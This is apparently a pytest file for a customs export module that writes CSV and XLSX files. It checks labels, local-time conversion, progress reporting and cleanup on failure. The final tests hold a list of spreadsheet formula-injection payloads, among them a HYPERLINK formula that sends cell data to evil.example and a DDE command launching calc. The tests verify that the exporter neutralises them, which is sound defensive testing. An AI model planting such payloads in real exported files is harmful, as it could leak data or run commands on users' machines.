"""declarant/export.py without a screen: what lands in the CSV and XLSX files, progress, failures."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from declarant.export import COLUMNS, export_name, export_rows, local_time
from store.queries import RecordRow


def row(n: int, *, status: int = 7, naive: bool = False) -> RecordRow:
    moment = datetime(2025, 11, 20, 16, 30, n % 60, tzinfo=None if naive else UTC)
    return RecordRow(
        id=n,
        unified_no=f"2025{n:014d}",
        draft_no=None,
        return_no="220125000001" if status == 7 else None,
        import_decl_no="220120251000000892",
        consignee_uscc="91310000132212345X",
        consignee_code=None,
        consignee_name="上海收货贸易有限公司",
        producer_uscc=None,
        producer_code="3205960001",
        producer_name="苏州原生产制造[有限]公司",
        collected_at=None,
        status=status,
        updated_at=moment,
    )


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    # newline="" as the csv module asks: a CR inside a quoted cell is part of the cell
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_has_the_labels_the_rows_and_local_times(tmp_path: Path) -> None:
    path = tmp_path / "out" / "a.csv"
    written = export_rows([row(1), row(2, status=0)], [c.key for c in COLUMNS], path)
    assert written == 2
    rows = read_csv(path)
    assert rows[0] == [c.label for c in COLUMNS]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["统一编号"] == "202500000000000001"
    assert first["收发货人代码"] == "91310000132212345X"  # no customs code: the USCC
    assert first["原生产企业名称"] == "苏州原生产制造[有限]公司"
    assert first["状态"] == "人工审核通过"
    assert first["最近操作时间"] == "2025-11-21 00:30:01"  # UTC 16:30 is past midnight in China
    assert first["采集时间"] == ""
    assert dict(zip(rows[0], rows[2], strict=True))["退货编号"] == ""


def test_columns_by_key_or_label_in_the_order_given(tmp_path: Path) -> None:
    path = tmp_path / "b.csv"
    export_rows([row(1, naive=True)], ["状态", "unified_no"], path)
    assert read_csv(path) == [["状态", "统一编号"], ["人工审核通过", "202500000000000001"]]
    with pytest.raises(KeyError):
        export_rows([row(1)], ["nope"], tmp_path / "c.csv")


def test_xlsx_reads_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "d.xlsx"
    keys = ["unified_no", "status", "updated_at"]
    assert export_rows((row(n) for n in range(1, 2501)), keys, path) == 2500
    values = list(load_workbook(path, read_only=True).active.iter_rows(values_only=True))
    assert values[0] == ("统一编号", "状态", "最近操作时间")
    assert len(values) == 2501
    assert values[2500][0] == "202500000000002500"


def test_progress_is_reported_and_ends_on_the_count(tmp_path: Path) -> None:
    seen: list[int] = []
    export_rows(
        (row(n) for n in range(2500)), ["unified_no"], tmp_path / "e.csv", progress=seen.append
    )
    assert seen == [1000, 2000, 2500]


def test_a_failed_export_leaves_no_file(tmp_path: Path) -> None:
    def rows():  # type: ignore[no-untyped-def]
        yield row(1)
        raise OSError("disk full")

    path = tmp_path / "f.csv"
    with pytest.raises(OSError):
        export_rows(rows(), ["unified_no"], path)
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValueError):
        export_rows([row(1)], ["unified_no"], tmp_path / "g.txt")


def test_file_name_is_dated_in_local_time() -> None:
    name = export_name("xlsx", now=datetime(2025, 11, 20, 16, 30, 0, tzinfo=UTC))
    assert name == "出口退货信息_20251121_003000.xlsx"
    assert local_time(None) == ""


HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def hostile_rows() -> list[RecordRow]:
    """Names as an operator could type them: each one a formula if a spreadsheet took it so."""
    return [
        dataclasses.replace(row(n), consignee_name=text, producer_name=f"{text}公司")
        for n, text in enumerate(HOSTILE, start=1)
    ]


def test_csv_writes_formula_like_values_as_text(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    export_rows(hostile_rows(), ["unified_no", "consignee_name", "producer_name"], path)
    rows = read_csv(path)[1:]
    assert [r[1] for r in rows] == [f"'{text}" for text in HOSTILE]
    assert [r[2] for r in rows] == [f"'{text}公司" for text in HOSTILE]
    assert rows[0][0] == "202500000000000001"  # ordinary values untouched
    triggers = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for r in rows for cell in r if cell.startswith(triggers)]


def test_xlsx_writes_formula_like_values_as_string_cells(tmp_path: Path) -> None:
    path = tmp_path / "f.xlsx"
    export_rows(hostile_rows(), ["unified_no", "consignee_name", "status"], path)
    sheet = load_workbook(path).active
    cells = [c for line in sheet.iter_rows(min_row=2) for c in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [line[1] for line in sheet.iter_rows(min_row=2)]
    # the exact text, no apostrophe (an XML reader turns a raw CR into LF: XML 1.0 section 2.11)
    assert [c.value for c in names] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    assert sheet["A2"].value == "202500000000000001" and not sheet["A2"].quotePrefix
